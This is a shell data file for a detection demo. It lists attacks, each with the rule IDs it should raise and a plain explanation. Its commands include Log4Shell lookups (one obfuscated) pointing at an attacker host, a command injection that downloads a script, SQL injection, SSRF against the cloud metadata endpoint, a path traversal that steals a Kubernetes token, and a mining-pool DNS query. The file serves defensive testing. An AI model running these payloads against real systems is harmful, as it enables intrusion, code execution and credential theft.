# The attacks of the demonstration, in order. Sourced by run.sh.
#
# attack TITLE SIDS FROM COMMAND MEANING
#   SIDS     rules that must be raised
#   FROM     attacker: run outside, beside the node; pod: run inside the workload
#   COMMAND  as shown and run
#   MEANING  what was seen, in plain words

attack "A trojan's check-in" "21562" attacker \
  "curl http://$pod:8080/ -H 'User-Agent: Mozilla/4.0' -XPOST --data-raw 'smk=1234'" \
  "A POST by an agent that calls itself just Mozilla/4.0, with a body that starts with smk=. No browser
   does that; a known trojan does when it reports to its controller."

attack "Log4Shell" "3000002" attacker \
  "curl http://$pod:8080/ -H 'X-Api-Version: \${jndi:ldap://198.51.100.7:1389/a}'" \
  "A header with a lookup that a vulnerable Log4j would follow: it fetches code from the attacker's server
   and runs it (CVE-2021-44228)."

attack "Log4Shell in disguise" "3000006" attacker \
  "curl http://$pod:8080/ -A '\${\${::-j}\${::-n}\${::-d}\${::-i}:ldap://198.51.100.7/a}'" \
  "The same lookup with every letter wrapped in a lookup of its own, so that a search for the word jndi
   finds nothing. The nesting itself gives it away."

attack "A scanner tries SQL injection" "3000140 3000056" attacker \
  "curl 'http://$pod:8080/item?id=1%20UNION%20SELECT%20name,password%20FROM%20users' -A 'sqlmap/1.8#stable'" \
  "Two things in one request: the scanner names itself in its agent header, and the query tries to append
   a second SELECT to the page's own. The blanks were encoded; Tapir decodes before it looks."

attack "Command injection" "3000021" attacker \
  "curl 'http://$pod:8080/ping?host=x;wget+http://198.51.100.7/m.sh'" \
  "A form value that ends the intended command and starts another, which downloads a script."

attack "Request forgery to the cloud" "3000070" attacker \
  "curl 'http://$pod:8080/proxy?url=http://169.254.169.254/latest/meta-data/iam/'" \
  "The workload is asked to fetch the cloud's metadata address for the attacker. That address hands out
   the credentials of the machine."

attack "Theft of the service-account token" "3000077 3000078" attacker \
  "curl 'http://$pod:8080/static../secrets/kubernetes.io/serviceaccount/token'" \
  "This one succeeds. A slip in the server's configuration lets /static.. leave its folder. The first alert
   is the request, the second the answer: the pod's Kubernetes token left the pod."

attack "The workload mines" "3000107" pod \
  "printf '\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\3xmr\\10nanopool\\3org\\0\\0\\1\\0\\1' >/dev/udp/$node/53" \
  "Seen from the other side: the pod itself asks for the name of a mining pool. It has been taken over."
